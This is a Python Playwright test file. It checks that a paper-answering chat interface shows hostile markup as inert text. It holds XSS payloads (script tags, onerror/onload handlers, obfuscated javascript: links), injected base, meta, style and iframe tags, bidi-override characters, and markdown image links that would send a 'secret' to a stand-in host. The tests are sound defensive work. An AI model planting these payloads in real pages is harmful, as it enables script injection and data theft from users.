"""Papers that mean harm: nothing in them runs, loads or spills; the pages' fixtures see what reaches other hosts."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, expect

from eval.chat.page import answered
from tests.browser.reader import sideways
from tests.fakes import ScriptedEndpoint

UNHARMED = "window.harmed === undefined"
ACTIVE = "img, svg, script:not([type='application/json']), iframe, base, meta, style, link, object, embed"


def test_markup_of_a_paper_is_shown_as_text_and_does_not_run(page: Page) -> None:
    exchange = answered(page, "Which papers track zebrafish larvae?")
    row = exchange.locator(".cd-row", has_text="Zebrafish").first
    expect(row.locator(".cd-row-title")).to_contain_text("script>window.harmed=1")
    row.get_by_role("button", name="Details").click()
    expect(exchange.locator(".cd-abstract")).to_contain_text("swim in bold schools. <script>window.harmed=1</script>")
    assert exchange.locator("img, svg, script:not([type='application/json']), b:has-text('bold'), iframe").count() == 0
    assert exchange.locator("a[href^='javascript']").count() == 0
    assert page.evaluate(UNHARMED)


def test_image_of_a_paper_is_not_loaded(page: Page) -> None:
    exchange = answered(page, "How is pangolin radar used on farms?")
    row = exchange.locator(".cd-row", has_text="Pangolin").first
    row.get_by_role("button", name="Details").click()
    expect(exchange.locator(".cd-abstract")).to_contain_text("map.png")
    assert exchange.locator("img").count() == 0
    assert page.evaluate(UNHARMED)


def test_right_to_left_text_keeps_to_itself(page: Page) -> None:
    exchange = answered(page, "Which papers translate Arabic poetry with Falcon?")
    row = exchange.locator(".cd-row", has_text="Falcon").first
    title = row.locator(".cd-row-title bdi")
    assert title.evaluate("each => getComputedStyle(each).unicodeBidi") == "isolate"
    assert title.evaluate("each => getComputedStyle(each).direction") == "rtl"
    row.get_by_role("button", name="Details").click()
    card = exchange.locator(".cd-card").first
    assert card.locator(".cd-abstract").evaluate("each => getComputedStyle(each).direction") == "rtl"
    assert card.evaluate("each => getComputedStyle(each).direction") == "ltr"


def test_endless_abstract_with_endless_words_spills_nowhere(page: Page) -> None:
    page.set_viewport_size({"width": 390, "height": 800})
    exchange = answered(page, "How deep do marmots dig their burrows?")
    exchange.locator(".cd-row", has_text="Marmot").first.get_by_role("button", name="Details").click()
    card = exchange.locator(".cd-card").first
    assert len(card.locator(".cd-abstract").inner_text()) > 19_000
    assert sideways(page) == 0


def test_markup_in_a_question_is_text(page: Page) -> None:
    question = '<img src=x onerror="window.harmed=1"> "quantization" </script><script>window.harmed=1</script>'
    exchange = answered(page, question)
    expect(exchange.locator("h2")).to_have_text(question)
    expect(page.locator("#cd-kept li button").first).to_have_text(question)
    assert exchange.locator("img").count() == 0
    page.reload()
    expect(page.locator(".cd-exchange h2")).to_have_text(question)
    assert page.evaluate(UNHARMED)


REPLIES = (
    "It is ![x](https://elsewhere.example/a.png?q=secret) and ![y][r] [1].\n\n[r]: https://elsewhere.example/b.png",
    "<img src=x onerror=window.harmed=1><svg/onload=window.harmed=1><script>window.harmed=1</script> so [1].",
    "&lt;img src=x onerror=window.harmed=1&gt; and &#60;script&#62;window.harmed=1&#60;/script&#62; hold [1].",
    "See [it](javascript:window.harmed=1), [it](java&#10;script:window.harmed=1), [it]( &#106;avascript&colon;x ) [1].",
    "See [a](tel:+1) [b](intent://x#Intent;end) [c](ms-msdt:/id) [d](blob:https://elsewhere.example/x) [1].",
    "See [a](data:text/html;base64,PHNjcmlwdD4=) and <https://elsewhere.example> and elsewhere.example/x [1].",
    '<iframe src="https://elsewhere.example"></iframe><form action="https://elsewhere.example"><input> is it [1].',
    '<style>@import "https://elsewhere.example/x.css";</style><link rel=stylesheet href=//elsewhere.example> [1].',
    "</div></section><base href=https://elsewhere.example><meta http-equiv=refresh content=0> it is [1].",
    "The \u202eevil\u202c and \u2066hidden\u2069 \U000e0041\U000e0042 text counts [1].",
    "As 〔1〕 and ❨1❩ and [p1] and ¹ and [7] and [1][99] say, it is so.",
    "$\\href{javascript:window.harmed=1}{x}$ and \\url{https://elsewhere.example} hold [1].",
)


@pytest.mark.parametrize("reply", REPLIES)
def test_nothing_in_a_reply_is_active(writing_page: Page, endpoint: ScriptedEndpoint, reply: str) -> None:
    endpoint.pieces = tuple(re.findall(r"(?s).{1,7}", f"FlashAttention-2 parallelizes attention [1]. {reply}"))
    exchange = answered(writing_page, "What does FlashAttention-2 do?")
    prose = exchange.locator(".cd-prose")
    expect(prose).to_contain_text("parallelizes attention")
    assert exchange.locator(ACTIVE).count() == 0
    links = prose.locator("a").evaluate_all("all => all.map(each => each.getAttribute('href'))")
    assert all(each.startswith("#") for each in links), links
    assert not re.search("[\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]|elsewhere\\.example", prose.inner_text())
    papers = exchange.locator("[data-part=papers] .cd-row").count()
    numbers = [int(each) for each in re.findall(r"\\[(\\d+)\\]", prose.inner_text())]
    assert all(number <= papers for number in numbers), numbers
    assert writing_page.evaluate(UNHARMED)
